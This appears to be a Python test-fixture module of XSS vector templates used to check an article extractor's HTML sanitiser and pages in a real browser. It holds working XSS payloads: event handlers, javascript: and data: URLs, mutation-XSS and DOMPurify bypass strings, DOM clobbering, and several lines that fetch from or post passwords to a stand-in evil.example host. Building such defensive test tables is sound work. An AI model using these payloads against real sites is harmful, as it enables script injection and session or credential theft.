"""The XSS vector table shared by the extractor's sanitiser tests and the browser XSS tests.

Each vector is a template. ``$JS`` is the script the vector tries to run, ``$ID`` a number that
names the vector in whatever it sends or sets, ``$EVIL`` an origin the page must never contact,
and ``$B64SCRIPT`` the base64 of ``<script>$JS</script>`` (for ``data:`` URLs). The extractor
tests render them with the defaults (``alert(1)``, ``https://evil.example``); the browser tests
render them with a payload that reports the vector's number, so a failure names the vector.

Kept as plain data in one module so a new bypass is added once and checked everywhere: in
``content_html`` (tests/test_extract_sanitise.py) and in real Chromium on every page that shows
user data (tests/browser/test_xss.py).
"""

from __future__ import annotations

import base64
from dataclasses import dataclass

DEFAULT_JS = "alert(1)"
DEFAULT_EVIL = "https://evil.example"


@dataclass(frozen=True)
class Vector:
    """One attack string: ``id`` names it in test ids and failure messages."""

    id: str
    template: str

    def render(self, js: str = DEFAULT_JS, number: int = 1, evil: str = DEFAULT_EVIL) -> str:
        script = base64.b64encode(f"<script>{js}</script>".encode()).decode("ascii")
        return (
            self.template.replace("$B64SCRIPT", script)
            .replace("$JS", js)
            .replace("$ID", str(number))
            .replace("$EVIL", evil)
        )


def _table(*rows: tuple[str, str]) -> list[Vector]:
    return [Vector(id_, template) for id_, template in rows]


# Markup placed in an article's body (for the extractor: between its second and third
# paragraphs). Grouped by what they try; the groups are only for reading.
BODY_VECTORS: list[Vector] = _table(
    # --- script elements and event handlers ---
    ("script", "<script>$JS</script>"),
    ("script-src", '<script src="$EVIL/xss/$ID.js"></script>'),
    ("script-uppercase", "<SCRIPT>$JS</SCRIPT>"),
    ("script-nested-strip", "<scr<script>ipt>$JS</scr</script>ipt>"),
    ("script-fetch", "<script>fetch('$EVIL/xss/$ID')</script>"),
    ("script-module-import", '<script type="module">import "$EVIL/xss/$ID.js";</script>'),
    ("img-onerror", "<img src=x onerror=$JS>"),
    ("img-onerror-unterminated", "<p>Photo: <img src=x onerror=$JS// </p>"),
    ("img-onerror-entity-body", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;$ID&#41;>"),
    ("img-onerror-marker", "<img src=x onerror=window.__xss=$ID>"),
    ("img-onerror-uppercase", "<IMG SRC=x ONERROR=$JS>"),
    ("img-onerror-slash-separator", "<img/src=x/onerror=$JS>"),
    ("p-onclick", '<p onclick="$JS" onmouseover="$JS">A paragraph with handlers.</p>'),
    ("body-onload", "<body onload=$JS>"),
    ("body-onpageshow", "<body onpageshow=$JS>"),
    ("details-ontoggle", "<details open ontoggle=$JS><summary>More</summary>x</details>"),
    ("marquee-onstart", "<marquee onstart=$JS>news</marquee>"),
    ("input-autofocus-onfocus", "<input autofocus onfocus=$JS>"),
    ("div-tabindex-onfocus", '<div tabindex="1" autofocus onfocus=$JS>focus me</div>'),
    ("video-source-onerror", "<video><source onerror=$JS></video>"),
    # --- javascript:, vbscript: and data: URLs in link-like attributes ---
    ("a-javascript", '<p><a href="javascript:$JS">a link</a></p>'),
    ("a-javascript-marker", '<p><a href="javascript:window.__xss=$ID">a link</a></p>'),
    ("a-javascript-mixed-case", '<p><a href="  JaVaScRiPt:$JS">a link</a></p>'),
    ("a-javascript-tab-entity", '<p><a href="jav&#x09;ascript:$JS">a link</a></p>'),
    ("a-javascript-newline", '<p><a href="java\nscript:$JS">a link</a></p>'),
    ("a-javascript-newline-entity", '<p><a href="ja&NewLine;vascript:$JS">a link</a></p>'),
    ("a-javascript-colon-entity", '<p><a href="javascript&colon;$JS">a link</a></p>'),
    ("a-javascript-control-prefix", '<p><a href="&#1;javascript:$JS">a link</a></p>'),
    (
        "a-javascript-decimal-entities",
        '<p><a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;$JS">'
        "a link</a></p>",
    ),
    ("a-javascript-padded-entity", '<p><a href="java&#0000115;cript:$JS">a link</a></p>'),
    ("a-javascript-hex-entities", '<p><a href="&#x6A;avascript&#x3A;$JS">a link</a></p>'),
    ("a-vbscript", '<p><a href="vbscript:msgbox($ID)">a link</a></p>'),
    ("a-data-html", '<p><a href="data:text/html,<script>$JS</script>">a link</a></p>'),
    ("a-data-html-base64", '<p><a href="data:text/html;base64,$B64SCRIPT">a link</a></p>'),
    ("a-ping", '<p><a href="https://example.org/" ping="javascript:$JS">a link</a></p>'),
    ("a-ping-remote", '<p><a href="https://example.org/" ping="$EVIL/xss/$ID">a link</a></p>'),
    ("img-src-javascript", '<img src="javascript:$JS" alt=x>'),
    ("img-src-javascript-bare", "<IMG SRC=JaVaScRiPt:$JS>"),
    ("img-srcset-javascript", '<img src="/a.jpg" srcset="javascript:$JS 1x, /b.jpg 2x">'),
    ("picture-source-javascript", '<picture><source srcset="javascript:$JS"><img src=x></picture>'),
    ("img-data-src-javascript", '<img class="lazyload" data-src="javascript:$JS">'),
    ("video-poster", "<video poster=javascript:$JS><source src=x onerror=$JS></video>"),
    ("audio-onerror", "<audio src=x onerror=$JS></audio>"),
    ("table-background", '<table background="javascript:$JS"><tr><td>cell</td></tr></table>'),
    ("button-formaction", '<form><button formaction="javascript:$JS">Go</button></form>'),
    ("input-formaction", '<input type="submit" formaction="javascript:$JS" value="Go">'),
    ("input-image-onerror", "<input type=image src=x onerror=$JS>"),
    ("form-steal", '<form action="$EVIL/steal"><input type=password></form>'),
    ("form-outside-button", "<form id=f></form><button form=f formaction=javascript:$JS>X"),
    ("isindex", "<isindex action=javascript:$JS type=image>"),
    # --- frames, embeds and srcdoc ---
    ("iframe", '<iframe src="$EVIL/xss/$ID"></iframe>'),
    ("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;$JS&lt;/script&gt;"></iframe>'),
    ("iframe-srcdoc-parent", "<iframe srcdoc=\"<img src=x onerror='parent.$JS'>\"></iframe>"),
    ("iframe-javascript", '<iframe src="javascript:$JS"></iframe>'),
    ("iframe-data-html", '<iframe src="data:text/html,<script>$JS</script>"></iframe>'),
    ("frame", '<frameset><frame src="javascript:$JS"></frameset>'),
    ("object-javascript", '<object data="javascript:$JS"></object>'),
    ("object-data-html", '<object data="data:text/html,<script>$JS</script>"></object>'),
    # <embed> is a void element, but libxml2 parses what follows it as its children: dropping
    # the element must not drop the rest of the article with it.
    ("embed", '<embed src="$EVIL/xss/$ID.swf">'),
    ("applet", '<applet code="Evil.class" codebase="$EVIL/"></applet>'),
    ("template", "<template><img src=x onerror=$JS></template>"),
    (
        "template-shadowroot",
        '<div><template shadowrootmode="open"><img src=x onerror=$JS></template></div>',
    ),
    # --- CSS: elements, imports, expressions, url(javascript:) ---
    ("style-element", "<style>body { display: none } p { color: red }</style>"),
    ("style-import", "<style>@import '$EVIL/xss/$ID.css';</style>"),
    ("link-in-body", '<link rel="stylesheet" href="$EVIL/xss/$ID.css">'),
    ("style-attr-javascript-url", '<p style="background:url(javascript:$JS)">Styled.</p>'),
    ("style-attr-remote-url", '<p style="background:url($EVIL/xss/$ID.png)">Styled.</p>'),
    ("style-attr-expression", '<p style="width: expression($JS)">Styled.</p>'),
    ("style-attr-behavior", '<p style="behavior: url(x.htc); -moz-binding: url(x)">Styled.</p>'),
    ("style-attr-hide", '<p style="position:fixed;inset:0;z-index:9999">Overlay.</p>'),
    # --- <base>, <meta refresh> and other document-level elements in the body ---
    ("meta-refresh-in-body", '<meta http-equiv="refresh" content="0;url=javascript:$JS">'),
    ("meta-refresh-remote", '<meta http-equiv="refresh" content="0;url=$EVIL/xss/$ID">'),
    ("base-in-body", '<base href="$EVIL/">'),
    # --- SVG and MathML ---
    ("svg-onload", '<svg onload="$JS"><circle r="10"/></svg>'),
    ("svg-script", "<svg><script>$JS</script></svg>"),
    ("svg-script-entity", "<svg><script>&#97;lert($ID)</script></svg>"),
    ("svg-xlink-href", '<svg><a xlink:href="javascript:$JS"><text y="20">x</text></a></svg>'),
    ("svg-href", '<svg><a href="javascript:$JS"><text y="20">x</text></a></svg>'),
    ("svg-animate", "<svg><animate onbegin=$JS attributeName=x dur=1s></svg>"),
    ("svg-set-href", '<svg><a><set attributeName="href" to="javascript:$JS"/>x</a></svg>'),
    (
        "svg-animate-values",
        '<svg><a><animate attributeName=href values="javascript:$JS"/>x</a></svg>',
    ),
    ("svg-use-data", '<svg><use href="data:image/svg+xml;base64,$B64SCRIPT#x"/></svg>'),
    ("svg-foreignobject", "<svg><foreignObject><img src=x onerror=$JS></foreignObject></svg>"),
    ("svg-style-img", "<svg><style><img src=x onerror=$JS></style></svg>"),
    ("math-href", '<math href="javascript:$JS"><mi>x</mi></math>'),
    (
        "math-maction",
        '<math><maction actiontype="statusline" xlink:href="javascript:$JS">x</maction></math>',
    ),
    (  # the DOMPurify 2.0.17 namespace-confusion bypass
        "math-mglyph-mxss",
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;'
        '&lt;img&Tab;src=1&Tab;onerror=$JS&gt;"></mglyph></table></mtext></math>',
    ),
    (
        "math-mglyph-style-img",
        "<math><mtext><table><mglyph><style><img src=x onerror=$JS></style></mglyph></table>"
        "</mtext></math>",
    ),
    # --- mutation XSS: raw-text and escapable raw-text elements, comments ---
    ("noscript-mxss", '<noscript><p title="</noscript><img src=x onerror=$JS>"></noscript>'),
    ("textarea-mxss", "<textarea><img src=x onerror=$JS></textarea>"),
    ("title-in-body-mxss", "<title><img src=x onerror=$JS></title>"),
    ("xmp-mxss", "<xmp><img src=x onerror=$JS></xmp>"),
    ("noembed-mxss", '<noembed><p title="</noembed><img src=x onerror=$JS>"></noembed>'),
    ("comment-breakout", '<!--<img src="--><img src=x onerror=$JS//">'),
    ("cdata-breakout", "<svg><![CDATA[><img src=x onerror=$JS>]]></svg>"),
    ("dialog", "<dialog open onclose=$JS>Dialog</dialog>"),
    ("select-option", "<select onfocus=$JS autofocus><option>One</option></select>"),
    # --- DOM clobbering aimed at the page scripts' globals and lookups ---
    ("clobber-get-element-by-id", '<img name="getElementById" src="x">'),
    ("clobber-toolbar-form", '<form id="hl-toolbar-form"><input name="note" value="x"></form>'),
    ("clobber-article-content", '<div id="article-content">decoy</div>'),
    ("clobber-xss-marker", '<a id="__xss" name="__xssHits" href="#">clobber</a>'),
    ("clobber-css-highlights", '<a id="CSS"></a><a id="CSS" name="highlights">x</a>'),
    ("clobber-document-body", '<form name="body"><img id="toast" name="cookie"></form>'),
    ("clobber-location", '<object id="location" data="javascript:$JS"></object>'),
    (
        "spoof-highlight-mark",
        '<mark class="rm-hl" data-highlight-id="1" data-action="delete-orphan">spoof</mark>',
    ),
    (
        "spoof-popover-target",
        '<button popovertarget="settings" popovertargetaction="hide">x</button>',
    ),
)

# Markup placed in the page's <head>.
HEAD_VECTORS: list[Vector] = _table(
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:$JS">'),
    ("base-javascript", '<base href="javascript:$JS//">'),
    ("base-hijack", '<base href="$EVIL/">'),
    ("link-stylesheet", '<link rel="stylesheet" href="$EVIL/xss/$ID.css">'),
    ("link-preload-script", '<link rel="preload" as="script" href="$EVIL/xss/$ID.js">'),
    ("head-script", "<script>document.write('<p>injected</p>');$JS</script>"),
    ("head-style", "<style>p { display: none }</style>"),
    ("meta-csp-relax", '<meta http-equiv="Content-Security-Policy" content="script-src *">'),
    ("meta-set-cookie", '<meta http-equiv="Set-Cookie" content="readmode_session=x">'),
)

# URLs placed where a page gives an address: <a href>, <img src>/srcset, <link rel=canonical>,
# og:url, og:image and JSON-LD url/image (which become canonical_url and lead_image_url).
URL_VECTORS: list[Vector] = _table(
    ("url-javascript", "javascript:$JS"),
    ("url-javascript-mixed-case", "JaVaScRiPt:$JS"),
    ("url-javascript-leading-space", " \tjavascript:$JS"),
    ("url-javascript-inner-tab", "java\tscript:$JS"),
    ("url-javascript-fragment", "javascript://example.com/%0a$JS"),
    ("url-vbscript", "vbscript:msgbox($ID)"),
    ("url-data-html", "data:text/html,<script>$JS</script>"),
    ("url-data-html-base64", "data:text/html;base64,$B64SCRIPT"),
    ("url-data-svg", "data:image/svg+xml;base64,$B64SCRIPT"),
    ("url-attribute-breakout", 'x" onerror="$JS" data-x="'),
    ("url-attribute-breakout-single", "x' onmouseover='$JS' x='"),
    ("url-protocol-relative", "//127.0.0.1:9/xss/$ID"),
    ("url-percent-encoded-scheme", "%6Aavascript:$JS"),
    ("url-unicode-scheme", "ｊａｖａｓｃｒｉｐｔ:$JS"),
)

# Plain text that reaches an HTML text or attribute context: titles, bylines, site names,
# excerpts, highlight notes, tags and quotes, the search box.
TEXT_VECTORS: list[Vector] = _table(
    ("text-tag", "<script>$JS</script>"),
    ("text-marker", "<img src=x onerror=window.__xss=$ID>"),
    ("text-attribute-breakout", '"><img src=x onerror=$JS>'),
    ("text-single-quote-breakout", "'><svg onload=$JS>"),
    ("text-title-breakout", "</title><script>$JS</script>"),
    ("text-textarea-breakout", "</textarea><img src=x onerror=$JS>"),
    ("text-script-breakout", "</script><script>$JS</script>"),
    ("text-comment-breakout", "--><img src=x onerror=$JS><!--"),
    ("text-pre-escaped", "&lt;img src=x onerror=$JS&gt;"),
    ("text-double-escaped", "&amp;lt;img src=x onerror=$JS&amp;gt;"),
    ("text-fake-mark", "<mark>x</mark><img src=x onerror=$JS><mark>"),
    ("text-template-injection", "{{ $JS }} {% raw %}${$JS}{% endraw %} #{$JS}"),
    ("text-javascript-url", "javascript:$JS"),
    ("text-line-separators", "\u2028\u2029</script><script>$JS</script>"),
    ("text-bidi-override", "\u202e>tpircs/<)$ID(trela>tpircs<"),
    ("text-fullwidth-tag", "＜script＞$JS＜/script＞"),
)


def all_vectors() -> list[Vector]:
    return [*BODY_VECTORS, *HEAD_VECTORS, *URL_VECTORS, *TEXT_VECTORS]
